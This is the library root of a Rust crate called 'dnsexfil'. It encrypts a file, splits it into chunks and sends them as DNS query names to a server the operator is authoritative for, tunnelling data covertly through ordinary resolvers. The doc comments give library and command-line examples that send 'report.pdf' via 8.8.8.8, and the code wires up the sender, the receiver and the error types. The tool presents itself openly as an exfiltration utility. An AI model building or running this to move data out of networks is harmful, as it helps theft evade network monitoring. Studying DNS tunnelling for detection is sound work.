//! dnsexfil: encrypted file transfer carried entirely in DNS query names
//!
//! A sender encrypts a file under a passphrase, splits the ciphertext into
//! chunks and spells each chunk out as base-36 labels of a query name under a
//! domain the receiver is authoritative for. The receiver answers every
//! query with one of four sentinel addresses and writes the file back out
//! once every chunk has arrived and the checksum matches.
//!
//! ## Quick Start
//!
//! ### As a Library
//!
//! ```rust,no_run
//! use dnsexfil::ExfilConfig;
//!
//! #[tokio::main]
//! async fn main() -> Result<(), Box<dyn std::error::Error>> {
//!     let mut config = ExfilConfig::default();
//!     config.common.domain = "t.example.com".into();
//!     config.common.passphrase = "correct horse".into();
//!
//!     let report = dnsexfil::send_file(&config, "report.pdf").await?;
//!     println!("sent {} chunks as {}", report.chunks, report.session_id);
//!     Ok(())
//! }
//! ```
//!
//! ### As a Command-Line Tool
//!
//! ```bash
//! # Receiver, authoritative for t.example.com
//! dnsexfil serve --domain t.example.com --passphrase k --listen 0.0.0.0:53
//!
//! # Sender
//! dnsexfil send report.pdf --domain t.example.com --passphrase k --resolver 8.8.8.8:53
//! ```
//!
//! ## Architecture
//!
//! ```text
//! ┌──────────┐  i./d./f. queries  ┌──────────┐      ┌────────────┐
//! │  Sender  │───────────────────▶│ Resolver │─────▶│ DnsServer  │
//! │ (worker  │◀───────────────────│  chain   │◀─────│ Dispatcher │
//! │   pool)  │  1.0.0.x answers   └──────────┘      │  Sessions  │
//! └──────────┘                                      └────────────┘
//! ```

pub mod assembler;
pub mod codec;
pub mod config;
pub mod crypto;
pub mod dispatcher;
pub mod dns;
pub mod protocol;
pub mod sender;
pub mod session;

// Re-export core types
pub use assembler::{AssembleError, Assembler};
pub use codec::CodecError;
pub use config::{CommonConfig, ExfilConfig, ReceiverConfig, SenderConfig};
pub use crypto::{Envelope, EnvelopeError, KdfConfig, KdfType};
pub use dispatcher::Dispatcher;
pub use dns::{DnsError, DnsServer, RecordType, UdpResolver};
pub use protocol::{Message, ParseError, Reply};
pub use sender::{chunk_file, ChunkedFile, Exchange, SendError, Sender, SenderOptions, TransferReport};
pub use session::{Session, SessionStore, StoreError};

use std::path::Path;
use std::sync::Arc;

/// Encrypt and send the file at `path` as configured in `config.common` and
/// `config.sender`
pub async fn send_file(config: &ExfilConfig, path: impl AsRef<Path>) -> Result<TransferReport> {
    config
        .validate()
        .map_err(|e| ExfilError::InvalidConfig(e.to_string()))?;

    let file = chunk_file(path, &config.envelope(), &config.common.domain).await?;

    let resolver = UdpResolver::new(
        config.sender.resolver,
        config.common.record_type,
        config.sender.timeout,
    );
    let sender = Sender::new(
        Arc::new(resolver),
        config.common.domain.clone(),
        config.sender_options(),
    );

    Ok(sender.send(&file).await?)
}

/// Bind the receiver described by `config.common` and `config.receiver`.
///
/// The output directory is created up front so a bad path fails here rather
/// than on the first completed transfer.
pub async fn bind_receiver(config: &ExfilConfig) -> Result<DnsServer> {
    config
        .validate()
        .map_err(|e| ExfilError::InvalidConfig(e.to_string()))?;

    tokio::fs::create_dir_all(&config.receiver.output_dir).await?;

    let store = Arc::new(SessionStore::new(config.receiver.session_timeout));
    let assembler = Assembler::new(config.envelope(), config.receiver.output_dir.clone());
    let dispatcher = Arc::new(Dispatcher::new(
        config.common.domain.clone(),
        store,
        assembler,
    ));

    Ok(DnsServer::bind(
        config.receiver.listen,
        dispatcher,
        config.receiver.sweep_interval,
    )
    .await?)
}

/// dnsexfil error types
#[derive(Debug, thiserror::Error)]
pub enum ExfilError {
    /// Invalid configuration
    #[error("Invalid configuration: {0}")]
    InvalidConfig(String),

    #[error("Encoding error: {0}")]
    Codec(#[from] CodecError),

    #[error("Parse error: {0}")]
    Parse(#[from] ParseError),

    #[error("Envelope error: {0}")]
    Envelope(#[from] EnvelopeError),

    #[error("Store error: {0}")]
    Store(#[from] StoreError),

    #[error("Assembly failed: {0}")]
    Assemble(#[from] AssembleError),

    /// Transfer aborted on the sending side
    #[error("Transfer failed: {0}")]
    Send(#[from] SendError),

    #[error("DNS error: {0}")]
    Dns(#[from] DnsError),

    /// I/O error
    #[error("IO error: {0}")]
    Io(#[from] std::io::Error),
}

pub type Result<T> = std::result::Result<T, ExfilError>;
